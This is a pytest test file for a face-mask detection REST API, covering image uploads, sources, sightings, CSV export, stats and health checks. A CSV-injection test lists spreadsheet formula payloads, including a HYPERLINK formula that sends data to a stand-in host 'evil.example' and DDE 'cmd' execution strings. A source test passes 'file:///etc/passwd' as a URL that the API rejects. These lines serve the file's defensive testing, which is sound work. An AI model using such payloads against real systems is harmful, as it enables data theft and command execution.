"""REST API on SQLite and MariaDB with the real detector: images, sources, sightings, stats, health, OpenAPI."""

from __future__ import annotations

import base64
import csv
import io
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest
from PIL import Image

from maskwatch_testing.frames import masked

from ..conftest import encode


def upload(client, data: bytes, name: str = "photo.jpg", query: str = ""):
    return client.post(
        f"/api/images{query}", data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data"
    )


def assert_error(response, status: int, code: str):
    assert response.status_code == status, response.get_json()
    body = response.get_json()
    assert body["error"] == code and body["message"]
    return body


# --- images --------------------------------------------------------------------------------------


def test_an_image_gives_faces_and_one_sighting_per_face(client, face_detector, astronaut, grace_hopper):
    frame = np.zeros((600, 1024, 3), np.uint8)
    frame[:512, :512] = masked(astronaut, face_detector)
    frame[:, 512:] = grace_hopper
    response = upload(client, encode(frame, "PNG"), "two.png", "?annotate=true")
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert (body["width"], body["height"], body["sightings"]) == (1024, 600, 2)
    faces = sorted(body["faces"], key=lambda f: f["box"][0])
    assert [f["label"] for f in faces] == ["mask", "no_mask"]
    assert all(len(f["box"]) == 4 and 0 < f["score"] <= 1 for f in faces)
    annotated = Image.open(io.BytesIO(base64.b64decode(body["annotated"].split(",", 1)[1])))
    assert annotated.size == (1024, 600)
    sightings = client.get("/api/sightings").get_json()
    assert sightings["total"] == 2
    assert sorted(s["verdict"] for s in sightings["items"]) == ["mask", "no_mask"]
    assert {s["source_id"] for s in sightings["items"]} == {body["source_id"]}
    assert client.get(f"/api/sources/{body['source_id']}").get_json()["name"] == "uploads"


def test_an_image_is_recorded_under_the_given_source(client, astronaut):
    source = client.post("/api/sources", json={"kind": "image", "name": "lobby"}).get_json()
    body = upload(client, encode(astronaut), query=f"?source_id={source['id']}").get_json()
    assert body["source_id"] == source["id"] and "annotated" not in body
    assert client.get(f"/api/sightings?source_id={source['id']}").get_json()["total"] == 1
    assert_error(upload(client, encode(astronaut), query="?source_id=999"), 404, "not_found")


def test_a_source_id_must_name_a_source_of_the_right_kind(client, astronaut):
    camera = client.post(
        "/api/sources", json={"kind": "camera", "name": "gate", "url": "rtsp://127.0.0.1:9/x"}
    ).get_json()
    image = client.post("/api/sources", json={"kind": "image", "name": "lobby"}).get_json()
    assert_error(upload(client, encode(astronaut), query=f"?source_id={camera['id']}"), 400, "wrong_source_kind")
    video = client.post(
        f"/api/videos?source_id={image['id']}",
        data={"file": (io.BytesIO(b"\0" * 64), "a.mp4")},
        content_type="multipart/form-data",
    )
    assert_error(video, 400, "wrong_source_kind")
    assert_error(upload(client, encode(astronaut), query="?source_id=true"), 400, "invalid_request")
    for route in (
        "/api/sightings",
        "/api/sightings.csv",
        "/api/stats/daily",
        "/api/stats/hourly",
        "/api/stats/summary",
    ):
        assert_error(client.get(f"{route}?source_id=999999"), 404, "not_found")
        assert client.get(f"{route}?source_id={camera['id']}").status_code == 200
    assert client.get("/api/sightings").get_json()["total"] == 0  # nothing was counted under the camera


@pytest.mark.parametrize(
    "data, name, status, code",
    [
        (b"", "empty.jpg", 400, "empty"),
        (b"%PDF-1.4 not a picture at all", "photo.jpg", 415, "unsupported_type"),
        (b"GIF89a" + bytes(100), "anim.gif", 415, "unsupported_type"),
    ],
)
def test_bad_uploads_get_a_clear_error(client, data, name, status, code):
    assert_error(upload(client, data, name), status, code)


def test_a_truncated_image_is_400_and_the_server_goes_on(client, astronaut):
    assert_error(upload(client, encode(astronaut)[:3000]), 400, "corrupt")
    assert upload(client, encode(astronaut)).status_code == 200


def test_an_oversized_upload_is_413(make_app, astronaut):
    client = make_app(MAX_UPLOAD_MB=1).test_client()
    noise = np.random.default_rng(0).integers(0, 255, (1200, 1200, 3), dtype=np.uint8)
    assert_error(upload(client, encode(noise, "PNG"), "big.png"), 413, "too_large")


def test_a_missing_file_field_is_400(client):
    body = assert_error(client.post("/api/images", data={}, content_type="multipart/form-data"), 400, "invalid_request")
    assert "file" in body["details"]["files"]


# --- sources -------------------------------------------------------------------------------------


def test_sources_crud_never_returns_a_camera_url(client):
    created = client.post(
        "/api/sources", json={"kind": "camera", "name": "gate", "url": "rtsp://admin:secret@10.0.0.5/live"}
    )
    assert created.status_code == 201
    camera = created.get_json()
    assert camera["has_url"] is True and "url" not in camera
    client.post("/api/sources", json={"kind": "webcam", "name": "desk"})
    listed = client.get("/api/sources")
    assert [s["name"] for s in listed.get_json()] == ["gate", "desk"]
    assert b"secret" not in listed.data
    assert client.delete(f"/api/sources/{camera['id']}").status_code == 204
    assert_error(client.get(f"/api/sources/{camera['id']}"), 404, "not_found")
    assert_error(client.delete(f"/api/sources/{camera['id']}"), 404, "not_found")


@pytest.mark.parametrize(
    "body",
    [
        {"kind": "camera", "name": "gate"},  # a camera needs a URL
        {"kind": "camera", "name": "gate", "url": "file:///etc/passwd"},
        {"kind": "webcam", "name": "desk", "url": "rtsp://x"},  # only cameras have one
        {"kind": "satellite", "name": "x"},
        {"kind": "image", "name": ""},
    ],
)
def test_invalid_sources_are_400(client, body):
    assert_error(client.post("/api/sources", json=body), 400, "invalid_request")


# --- sightings, CSV and stats (rows written through the store) -----------------------------------


@pytest.fixture
def seeded(app):
    """Sightings of two sources on 2026-03-01/02 UTC; returns the sources' ids."""
    from maskwatch.store import queries

    from .test_store import person

    with app.app_context():
        door, hall = queries.create_source("webcam", "door"), queries.create_source("camera", "hall")
        queries.add_sightings(
            door.id,
            [
                person("2026-03-01T22:30:00", "mask"),
                person("2026-03-01T23:30:00", "no_mask"),
                person("2026-03-02T12:00:00", "incorrect"),
            ],
        )
        queries.add_sightings(hall.id, [person(f"2026-03-02T0{i}:00:00", "mask") for i in range(5)])
        return door.id, hall.id


def test_sightings_are_paged(client, seeded):
    page = client.get("/api/sightings?per_page=3&page=2").get_json()
    assert (page["total"], page["pages"], page["page"], len(page["items"])) == (8, 3, 2, 3)
    door = client.get(f"/api/sightings?source_id={seeded[0]}&verdict=no_mask").get_json()
    assert [s["seen_at"] for s in door["items"]] == ["2026-03-01T23:30:00.000Z"]
    ranged = client.get("/api/sightings?start=2026-03-02T01:00:00%2B01:00&end=2026-03-02T03:00:00Z").get_json()
    assert ranged["total"] == 3  # 00:00 .. 02:00 UTC
    assert_error(client.get("/api/sightings?per_page=0"), 400, "invalid_request")


def test_sightings_csv_export(client, seeded):
    response = client.get(f"/api/sightings.csv?source_id={seeded[0]}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["source_name"], r["verdict"], r["seen_at"]) for r in rows] == [
        ("door", "mask", "2026-03-01T22:30:00.000Z"),
        ("door", "no_mask", "2026-03-01T23:30:00.000Z"),
        ("door", "incorrect", "2026-03-02T12:00:00.000Z"),
    ]
    assert {r["time_zone"] for r in rows} == {"UTC"} and rows[0]["seen_at_local"] == "2026-03-01T22:30:00.000+00:00"


def test_the_csv_gives_times_in_the_chosen_time_zone_with_their_offset(client, seeded):
    text = client.get(f"/api/sightings.csv?source_id={seeded[0]}&tz=Europe/Paris").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["seen_at"], r["seen_at_local"], r["time_zone"]) for r in rows] == [
        ("2026-03-01T22:30:00.000Z", "2026-03-01T23:30:00.000+01:00", "Europe/Paris"),
        ("2026-03-01T23:30:00.000Z", "2026-03-02T00:30:00.000+01:00", "Europe/Paris"),  # the next local day
        ("2026-03-02T12:00:00.000Z", "2026-03-02T13:00:00.000+01:00", "Europe/Paris"),
    ]
    assert_error(client.get("/api/sightings.csv?tz=Mars/Olympus"), 400, "invalid_request")


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(app, client, name):
    from maskwatch.store import queries

    from .test_store import person

    with app.app_context():
        source = queries.create_source("webcam", name)
        queries.add_sightings(source.id, [person("2026-03-01T22:30:00", "mask")])
    text = client.get("/api/sightings.csv").get_data(as_text=True)
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["source_name"] == "'" + name  # shown as the text it is, in every spreadsheet
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert client.get("/api/sources").get_json()[0]["name"] == name  # the API keeps the name as it was given


def test_daily_stats_in_the_callers_time_zone(client, seeded):
    query = f"start=2026-03-01&end=2026-03-02&source_id={seeded[0]}"
    utc = client.get(f"/api/stats/daily?{query}").get_json()
    paris = client.get(f"/api/stats/daily?{query}&tz=Europe/Paris").get_json()
    assert [(d["date"], d["total"]) for d in utc["days"]] == [("2026-03-01", 2), ("2026-03-02", 1)]
    assert [(d["date"], d["mask"], d["no_mask"], d["incorrect"]) for d in paris["days"]] == [
        ("2026-03-01", 1, 0, 0),
        ("2026-03-02", 0, 1, 1),
    ]
    assert paris["tz"] == "Europe/Paris"


def test_hourly_stats_and_summary(client, seeded):
    hours = client.get("/api/stats/hourly?start=2026-03-02&end=2026-03-02&tz=America/New_York").get_json()["hours"]
    assert len(hours) == 24 and hours[0]["hour"] == "2026-03-02T00:00:00-05:00"
    assert sum(h["total"] for h in hours) == 1  # only 12:00 UTC falls on 2 March in New York
    summary = client.get("/api/stats/summary").get_json()
    assert summary["total"] == 8
    assert summary["counts"] == {"mask": 6, "no_mask": 1, "incorrect": 1, "unknown": 0}
    assert summary["shares"]["mask"] == 0.75
    assert client.get(f"/api/stats/summary?source_id={seeded[1]}&start=2026-03-02").get_json()["total"] == 5


def test_stats_defaults_cover_today(client, astronaut):
    upload(client, encode(astronaut))
    today = datetime.now(UTC).date()
    days = client.get("/api/stats/daily").get_json()["days"]
    assert [d["date"] for d in days] == [(today - timedelta(days=6 - i)).isoformat() for i in range(7)]
    assert days[-1]["no_mask"] == 1


@pytest.mark.parametrize(
    "query, code",
    [
        ("tz=Mars/Olympus", "invalid_request"),
        ("start=2026-03-05&end=2026-03-01", "invalid_request"),
        ("start=yesterday", "invalid_request"),
        ("start=2026-01-01&end=2026-03-01", "range_too_long"),
    ],
)
def test_bad_stats_queries_are_400(client, query, code):
    assert_error(client.get(f"/api/stats/hourly?{query}"), 400, code)


# --- health, errors, OpenAPI ---------------------------------------------------------------------


def test_health(client):
    body = client.get("/api/health").get_json()
    assert body == {
        "status": "ok",
        "reasons": [],
        "database": True,
        "model_loaded": True,
        "version": "0.1.0",
        "sightings_waiting": 0,
        "sightings_dropped": 0,
        "detector": "mtcnn",
        "profiles": {
            "picture": {"min_face_size": 20, "upscale_below": 1024, "max_side": None},
            "stream": {"min_face_size": 40, "upscale_below": None, "max_side": None},
        },
    }


def test_health_says_the_model_is_not_loaded_until_a_lazy_worker_uses_it(make_app, astronaut):
    from maskwatch.web.services import services_of

    app = make_app()
    service = services_of(app).detector
    service._build, service.detectors = (lambda built=service.detectors: built), None  # as a lazy worker's
    client = app.test_client()
    assert client.get("/api/health").get_json()["model_loaded"] is False
    assert upload(client, encode(astronaut, "PNG"), "a.png").status_code == 200
    assert client.get("/api/health").get_json()["model_loaded"] is True


@pytest.mark.parametrize("size, smallest", [((300, 400), 7.8), ((1500, 2000), 20.0)])
def test_a_picture_answer_says_the_smallest_face_looked_for(client, size, smallest):
    picture = np.full((*size, 3), 128, np.uint8)
    body = upload(client, encode(picture, "PNG"), "plain.png").get_json()
    assert body["min_face_px"] == smallest


def test_health_is_503_when_the_database_is_unreachable(make_app):
    app = make_app(upgrade=False, SQLALCHEMY_DATABASE_URI="mysql+pymysql://nobody:x@127.0.0.1:1/none")
    response = app.test_client().get("/api/health")
    assert response.status_code == 503
    assert response.get_json()["status"] == "degraded" and response.get_json()["database"] is False
    assert response.get_json()["reasons"] == ["database_unreachable"]


def test_unknown_routes_and_methods_are_json_errors(client):
    assert_error(client.get("/api/nothing-here"), 404, "not_found")
    assert_error(client.put("/api/sources"), 405, "method_not_allowed")


def test_openapi_document_matches_the_routes(app, client):
    spec = client.get("/api/openapi.json").get_json()
    assert spec["openapi"].startswith("3.")
    documented = {
        (path, method.upper()) for path, ops in spec["paths"].items() for method in ops if method != "parameters"
    }
    routed = set()
    for rule in app.url_map.iter_rules():
        if rule.rule.startswith("/api/") and rule.endpoint != "api-docs.openapi_json":
            path = rule.rule.replace("<int:", "{").replace("<", "{").replace(">", "}")
            routed |= {(path, m) for m in rule.methods - {"HEAD", "OPTIONS"}}
    assert documented == routed
    image_post = spec["paths"]["/api/images"]["post"]
    assert "multipart/form-data" in image_post["requestBody"]["content"]
    assert {"400", "413", "415"} <= set(image_post["responses"])
